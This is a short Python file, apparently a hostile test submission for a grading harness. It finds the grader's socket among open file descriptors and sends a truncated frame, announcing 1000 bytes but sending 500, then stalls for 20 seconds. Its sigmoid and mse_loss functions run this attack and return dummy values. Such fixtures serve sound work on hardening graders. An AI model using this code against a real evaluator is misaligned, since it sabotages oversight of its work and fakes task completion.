"""Sends half a frame to the grader and then nothing more for 20 s.

aims: exhaust
"""

import os
import socket
import stat
import struct
import time

import numpy as np


def channel():
    """The socket to the grader: the first connected stream socket among the open descriptors."""
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                return socket.socket(fileno=os.dup(descriptor))
        except OSError:
            continue
    raise NotImplementedError("no socket found")


def attack():
    connection = channel()
    connection.sendall(struct.pack("<Q", 1000) + bytes(500))
    time.sleep(20)


def sigmoid(Z):
    attack()
    return np.zeros_like(Z)


def mse_loss(Y_hat, Y):
    attack()
    return 0.0
